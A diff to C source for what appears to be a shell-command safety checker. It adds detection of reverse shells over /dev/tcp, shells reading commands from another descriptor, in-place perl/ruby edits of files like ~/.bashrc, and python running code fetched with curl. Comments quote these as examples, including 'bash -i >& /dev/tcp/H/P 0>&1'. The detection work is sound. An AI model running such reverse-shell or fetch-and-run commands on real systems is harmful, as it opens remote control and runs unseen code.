@@ -58,6 +58,55 @@ static void shell_stdin(sh_ctx *cx, const sh_view *v, const sh_program *p)
     sh_verdict(cx, WG_SHELL_RISKY, "bash.shell", p->name, " starts a shell", NULL, v->via);
 }
 
+/* bash -i >& /dev/tcp/H/P 0>&1, exec 3<>/dev/tcp/H/P; bash <&3: a shell
+ * wired to a network connection, or reading its commands from a descriptor
+ * opened elsewhere, runs text nobody here can see (a reverse shell). */
+static int socket_shell(sh_ctx *cx, const sh_view *v, const sh_program *p)
+{
+    const sh_cmd *c = v->c;
+    for (int k = 0; k < c->nr; k++) {
+        const sh_redir *r = &c->r[k];
+        const char *t = c->text + r->target.off;
+        if (r->op == SH_R_HEREDOC || r->op == SH_R_HERESTR)
+            continue;
+        if (strncmp(t, "/dev/tcp/", 9) == 0 || strncmp(t, "/dev/udp/", 9) == 0) {
+            sh_unseen(cx, v, p->name, " is connected to a network socket (a remote shell)");
+            return 1;
+        }
+        if (r->op != SH_R_DUP || r->fd > 0 || t[0] < '3' || t[0] > '9')
+            continue;
+        size_t q = r->target.raw_off;   /* <&3 (stdin) or >&3 (stdout)? */
+        while (q > 0 && (c->src[q - 1] == ' ' || c->src[q - 1] == '\t'))
+            q--;
+        if (r->fd == 0 || (q >= 2 && c->src[q - 1] == '&' && c->src[q - 2] == '<')) {
+            sh_unseen(cx, v, p->name, " reads its commands from a descriptor opened elsewhere");
+            return 1;
+        }
+    }
+    return 0;
+}
+
+/* perl -pi -e '...' FILE, ruby -i: FILE is edited in place. */
+static int edits_in_place(const sh_view *v, const sh_program *p)
+{
+    if (strcmp(p->name, "perl") != 0 && strcmp(p->name, "ruby") != 0)
+        return 0;
+    for (int j = v->i + 1; j < v->end; j++) {
+        const char *t = W(j);
+        if (t[0] != '-' || t[1] == '-' || !t[1])
+            return 0;
+        for (int k = 1; t[k]; k++) {
+            if (t[k] == 'i')
+                return 1;
+            if (strchr("0CdDeEFIlmMxrS", t[k]) && !(t[k] == 'S' || t[k] == 'l'))
+                break;                  /* the rest of the word is this option's value */
+        }
+        if (strchr("eE", t[strlen(t) - 1]) && j + 1 < v->end)
+            j++;                        /* -e CODE */
+    }
+    return 0;
+}
+
 void sh_rule_shell(sh_ctx *cx, const sh_view *v, const sh_program *p)
 {
     int j = v->i + 1, script = 0, stdin_mode = 0;
@@ -122,6 +171,8 @@ void sh_rule_shell(sh_ctx *cx, const sh_view *v, const sh_program *p)
             return;
         }
     }
+    if (socket_shell(cx, v, p))
+        return;
     shell_stdin(cx, v, p);
 }
 
@@ -219,6 +270,8 @@ static int python_ro_module(const sh_view *v, const sh_program *p)
 
 void sh_rule_interp(sh_ctx *cx, const sh_view *v, const sh_program *p)
 {
+    if (edits_in_place(v, p) && sh_check_edited(cx, v, p->name))
+        return;                         /* perl -pi -e '...' ~/.bashrc */
     if (python_ro_module(v, p)) {
         sh_check_secret_reads(cx, v, p->name);  /* python3 -m json.tool ~/.docker/config.json */
         return;
@@ -256,6 +309,12 @@ void sh_rule_interp(sh_ctx *cx, const sh_view *v, const sh_program *p)
         if ((t[1] != '-' && strpbrk(t + 1, "cemprE")) || strcmp(t, "--eval") == 0 ||
             strcmp(t, "--print") == 0) {
             code = 1;
+            if (!t[2] && j + 1 < v->end && W(j + 1)[0] == SH_MARK && W(j + 1)[1] == SH_K_CMDSUB &&
+                t[1] != 'm') {
+                /* python3 -c "$(curl -fsSL URL)": code nobody here can read */
+                sh_unseen(cx, v, p->name, " runs code produced by a command ($(...))");
+                return;
+            }
             for (int k = j + (t[2] && t[1] != '-' ? 0 : 1); k < v->end && k <= j + 1; k++)
                 if (k > j || t[2]) {
                     code_text = k > j ? W(k) : t + 2;
